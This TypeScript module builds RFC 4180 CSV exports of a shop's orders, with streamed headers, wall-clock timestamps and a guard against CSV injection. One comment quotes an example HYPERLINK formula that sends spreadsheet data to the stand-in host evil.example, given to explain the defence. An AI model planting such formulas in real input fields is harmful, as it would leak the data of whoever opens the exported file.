/*
 * CSV as the owner's spreadsheet reads it, for the kitchen's exports (GET /api/orders/export,
 * docs/behaviour/api.md#kitchen): RFC 4180 (a header row, CRLF after every row, a field quoted when
 * it holds a comma, a double quote, CR or LF, its quotes doubled), text made safe from formulas,
 * and times on the shop's wall clock.
 */
import { TZDate } from '@date-fns/tz';
import { clock24, isoDay } from './fulfilment/clock-words';
import { SHOP_TIME_ZONE } from './fulfilment/schedule';

const CRLF = '\r\n';
const NEEDS_QUOTES = /[",\r\n]/;

/** One field as RFC 4180 writes it: as is, or in double quotes with its own quotes doubled. */
export function csvField(value: string): string {
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** Rows of fields as RFC 4180 text, every row ended by CRLF. */
export function csvText(rows: ReadonlyArray<readonly string[]>): string {
  return rows.map((row) => row.map(csvField).join(',') + CRLF).join('');
}

/**
 * A streamed file's parts: the header with the first body part, then each body part as it comes;
 * the header alone when there is none (both exports, GET /api/orders/export).
 */
export async function* withHeader(header: string, bodies: AsyncIterable<string>): AsyncGenerator<string> {
  let pending = header;
  for await (const body of bodies) {
    yield pending + body;
    pending = '';
  }
  if (pending !== '') yield pending;
}

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Text a customer typed, made safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets
 * run a cell that starts with =, +, - or @ (or a tab or CR before one) as a formula: a customer
 * could name themselves `=HYPERLINK("https://evil.example/?"&A1,"Click")` and have the owner's
 * spreadsheet send data away or run commands (CSV injection, OWASP). A leading apostrophe makes
 * the spreadsheet show the cell as plain text. Only typed text is guarded: the numbers and times
 * the exports write themselves never start with those characters.
 */
export function guardFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** 'YYYY-MM-DD HH:MM' on the shop's wall clock. */
export function shopDateTime(instant: Date): string {
  const inShop = new TZDate(instant.getTime(), SHOP_TIME_ZONE);
  return `${isoDay(inShop)} ${clock24(inShop)}`;
}
